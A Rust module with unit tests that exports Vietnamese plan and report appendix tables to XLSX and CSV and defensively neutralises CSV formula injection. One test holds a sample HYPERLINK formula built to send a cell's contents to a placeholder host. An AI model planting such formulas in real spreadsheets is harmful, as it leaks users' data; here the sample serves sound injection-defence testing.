//! Bảng tính phụ lục: the appendix tables of a plan or of a period report as a spreadsheet
//! (XLSX, one sheet per appendix) and as CSV, built from the same layout the print view and the
//! Word file use, so every export shows the same rows. Row numbers, budgets and figures are
//! stored as numbers, totals included, so that the office can add them up again in Excel or
//! LibreOffice.

use super::report::report_appendices;
use super::table::appendix_section;
use super::workbook::{Grid, Style, Value};
use super::{Block, Cell, ColumnKind, Section, Table, TableRow};
use crate::domain::appendix_columns::TableColumn;
use crate::domain::numbering::roman;
use crate::domain::progress::ProgressBook;
use crate::domain::report::PeriodReport;
use crate::domain::{DocumentForm, Plan};

pub const XLSX_MIME: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// One appendix laid out as rows: its title lines, then its table.
struct Sheet {
    name: String,
    titles: Vec<String>,
    table: Table,
}

/// An appendix section as a sheet called `name`: its paragraphs as title lines, then its table;
/// none for a section without a table.
fn sheet(name: String, section: Section) -> Option<Sheet> {
    let mut titles = Vec::new();
    let mut table = None;
    for block in section.blocks {
        match block {
            Block::Table(found) => table = Some(found),
            Block::Paragraph(paragraph) => titles.push(paragraph.text()),
            _ => {}
        }
    }
    Some(Sheet {
        name,
        titles,
        table: table?,
    })
}

/// The plan's appendix tables: «Phụ lục 1», «Phụ lục 2» …
fn plan_sheets(plan: &Plan) -> Vec<Sheet> {
    let decision = match &plan.form {
        DocumentForm::Decision(decision) => Some(decision.as_ref()),
        DocumentForm::Standalone => None,
    };
    plan.appendices
        .iter()
        .enumerate()
        .filter_map(|(index, appendix)| {
            let section = appendix_section(plan, appendix, decision);
            sheet(format!("Phụ lục {}", index + 1), section)
        })
        .collect()
}

/// A report's appendices, named as it prints them: «Phụ lục I», «Phụ lục II».
fn report_sheets(plan: &Plan, report: &PeriodReport, progress: &ProgressBook) -> Vec<Sheet> {
    report_appendices(plan, report, progress)
        .into_iter()
        .enumerate()
        .filter_map(|(index, section)| sheet(format!("Phụ lục {}", roman(index + 1)), section))
        .collect()
}

/// A cell of the document as the spreadsheet holds it: TT and amounts as numbers in machine
/// form ("3773", "1.5"), everything else as text (a budget note stays a note).
fn value(cell: &Cell) -> Value {
    match cell {
        Cell::Number(number) => Value::Number(number.to_string()),
        Cell::Amount(amount) => Value::Number(amount.to_machine_string()),
        Cell::Lines(lines) if lines.iter().all(|line| line.trim().is_empty()) => Value::Empty,
        Cell::Lines(lines) => Value::Text(lines.join("\n")),
    }
}

/// The rows of a sheet, each cell with its style.
fn rows(sheet: &Sheet) -> Vec<Vec<(Value, Style)>> {
    let columns = &sheet.table.columns;
    let width = columns.len();
    let budget_at = columns.iter().position(|c| c.kind == ColumnKind::BUDGET);
    let mut out: Vec<Vec<(Value, Style)>> = sheet
        .titles
        .iter()
        .map(|title| vec![(Value::Text(title.clone()), Style::Bold)])
        .collect();
    out.push(Vec::new());
    out.push(
        columns
            .iter()
            .map(|column| (Value::Text(column.label.clone()), Style::Header))
            .collect(),
    );
    for row in &sheet.table.rows {
        let mut cells = vec![(Value::Empty, Style::Normal); width];
        match row {
            TableRow::Group {
                label,
                title,
                total,
                ..
            } => {
                cells[0] = (Value::Text(label.clone()), Style::Bold);
                if width > 1 {
                    cells[1] = (Value::Text(title.clone()), Style::Bold);
                }
                if let (Some(at), Some(total)) = (budget_at, total) {
                    cells[at] = (value(&Cell::Amount(*total)), Style::BoldNumber);
                }
            }
            TableRow::Item { cells: values } => {
                for (index, (column, cell)) in columns.iter().zip(values).enumerate() {
                    let style = if column.kind == ColumnKind::BUDGET {
                        Style::Normal
                    } else {
                        Style::Wrapped
                    };
                    cells[index] = (value(cell), style);
                }
            }
            TableRow::Total { label, total } => {
                cells[0] = (Value::Text(label.clone()), Style::Bold);
                if let Some(at) = budget_at {
                    cells[at] = (value(&Cell::Amount(*total)), Style::BoldNumber);
                }
            }
        }
        out.push(cells);
    }
    out
}

/// An appendix sheet as the workbook holds it: its heading row (after the titles and a blank
/// row) stays in view while scrolling.
fn grid(sheet: &Sheet) -> Grid {
    Grid {
        name: sheet.name.clone(),
        widths: sheet
            .table
            .columns
            .iter()
            .map(|c| width_of(c.kind))
            .collect(),
        frozen_rows: sheet.titles.len() + 2,
        filter: false,
        rows: rows(sheet),
    }
}

/// Column widths in characters, by what each column holds.
fn width_of(kind: ColumnKind) -> u32 {
    match kind {
        ColumnKind::Number => 6,
        ColumnKind::Field(column) => match column {
            TableColumn::Task => 60,
            TableColumn::Output => 35,
            TableColumn::Lead | TableColumn::Partner | TableColumn::Executor => 28,
            TableColumn::Deadline => 22,
            TableColumn::Budget => 14,
        },
    }
}

/// The plan's appendix tables as an XLSX workbook, one sheet per appendix; `None` when the plan
/// has no appendix.
pub fn write_xlsx(plan: &Plan) -> Option<Vec<u8>> {
    workbook(&plan_sheets(plan))
}

/// A period report's appendices as an XLSX workbook: «Phụ lục I», the tasks, and «Phụ lục II»,
/// the figures, where the report prints it. `plan` and `progress` are the report's basis, as for
/// [`report_layout`](super::report_layout).
pub fn write_report_xlsx(
    plan: &Plan,
    report: &PeriodReport,
    progress: &ProgressBook,
) -> Option<Vec<u8>> {
    workbook(&report_sheets(plan, report, progress))
}

/// `sheets` as an XLSX workbook; `None` when there is none.
fn workbook(sheets: &[Sheet]) -> Option<Vec<u8>> {
    let grids: Vec<Grid> = sheets.iter().map(grid).collect();
    super::workbook::workbook(&grids)
}

/// One CSV field, quoted where it must be (RFC 4180). A text that a spreadsheet would take for
/// a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a `'` before
/// it, as OWASP advises against CSV injection: a task written «=HYPERLINK(…)» in a received plan
/// must stay words, never a live link that sends a cell's contents away. Numbers are ours and
/// pass as they are.
fn csv_field(cell: &Value) -> String {
    let text = match cell {
        Value::Empty => return String::new(),
        Value::Number(number) => return number.clone(),
        Value::Text(text) => text,
    };
    let neutral = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.clone()
    };
    if neutral.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", neutral.replace('"', "\"\""))
    } else {
        neutral
    }
}

/// The appendix tables as CSV: UTF-8 with a byte-order mark (so that Excel reads the accents),
/// CRLF line ends, one table after another with its title lines; numbers in machine form.
pub fn write_csv(plan: &Plan) -> Option<String> {
    csv(&plan_sheets(plan))
}

/// A period report's appendices as CSV, as [`write_csv`] writes a plan's.
pub fn write_report_csv(
    plan: &Plan,
    report: &PeriodReport,
    progress: &ProgressBook,
) -> Option<String> {
    csv(&report_sheets(plan, report, progress))
}

/// `sheets` as CSV; `None` when there is none.
fn csv(sheets: &[Sheet]) -> Option<String> {
    if sheets.is_empty() {
        return None;
    }
    let mut out = String::from("\u{FEFF}");
    for (index, sheet) in sheets.iter().enumerate() {
        if index > 0 {
            out.push_str("\r\n");
        }
        for row in rows(sheet) {
            let fields: Vec<String> = row.iter().map(|(cell, _)| csv_field(cell)).collect();
            out.push_str(&fields.join(","));
            out.push_str("\r\n");
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::Decimal;

    fn text(text: &str) -> Value {
        Value::Text(text.into())
    }

    #[test]
    fn csv_fields_are_quoted_only_when_needed() {
        assert_eq!(csv_field(&text("Công chức")), "Công chức");
        assert_eq!(csv_field(&text("a, b")), "\"a, b\"");
        assert_eq!(csv_field(&text("nói \"có\"")), "\"nói \"\"có\"\"\"");
        assert_eq!(csv_field(&text("dòng 1\ndòng 2")), "\"dòng 1\ndòng 2\"");
        assert_eq!(csv_field(&Value::Empty), "");
    }

    #[test]
    fn csv_text_that_reads_as_a_formula_is_kept_as_words() {
        assert_eq!(csv_field(&text("=1+41")), "'=1+41");
        assert_eq!(csv_field(&text("+84 912")), "'+84 912");
        assert_eq!(csv_field(&text("- Công chức")), "'- Công chức");
        assert_eq!(csv_field(&text("@SUM(A1)")), "'@SUM(A1)");
        assert_eq!(csv_field(&text("\t=1")), "'\t=1");
        assert_eq!(
            csv_field(&text("=HYPERLINK(\"http://x/?d=\"&A1,\"bấm\")")),
            "\"'=HYPERLINK(\"\"http://x/?d=\"\"&A1,\"\"bấm\"\")\""
        );
        assert_eq!(csv_field(&text("Họp =1")), "Họp =1");
        // A number of ours is a number, negative or not.
        assert_eq!(csv_field(&Value::Number("-5".into())), "-5");
    }

    #[test]
    fn budgets_and_row_numbers_become_numbers_and_notes_stay_text() {
        let amount = |text| Cell::Amount(Decimal::parse_vi(text).expect("an amount"));
        assert_eq!(value(&amount("3.773")), Value::Number("3773".into()));
        assert_eq!(value(&amount("1,5")), Value::Number("1.5".into()));
        assert_eq!(
            value(&Cell::Lines(vec!["Theo dự trù".into()])),
            Value::Text("Theo dự trù".into())
        );
        assert_eq!(value(&Cell::Number(12)), Value::Number("12".into()));
        // A task written "12" is words, not a number: only TT and amounts are numbers.
        assert_eq!(
            value(&Cell::Lines(vec!["12".into()])),
            Value::Text("12".into())
        );
        assert_eq!(value(&Cell::Lines(vec!["  ".into()])), Value::Empty);
        assert_eq!(
            value(&Cell::Lines(vec!["a".into(), "b".into()])),
            Value::Text("a\nb".into())
        );
    }

    #[test]
    fn a_plan_without_appendices_has_no_spreadsheet() {
        assert_eq!(write_xlsx(&Plan::default()), None);
        assert_eq!(write_csv(&Plan::default()), None);
    }
}
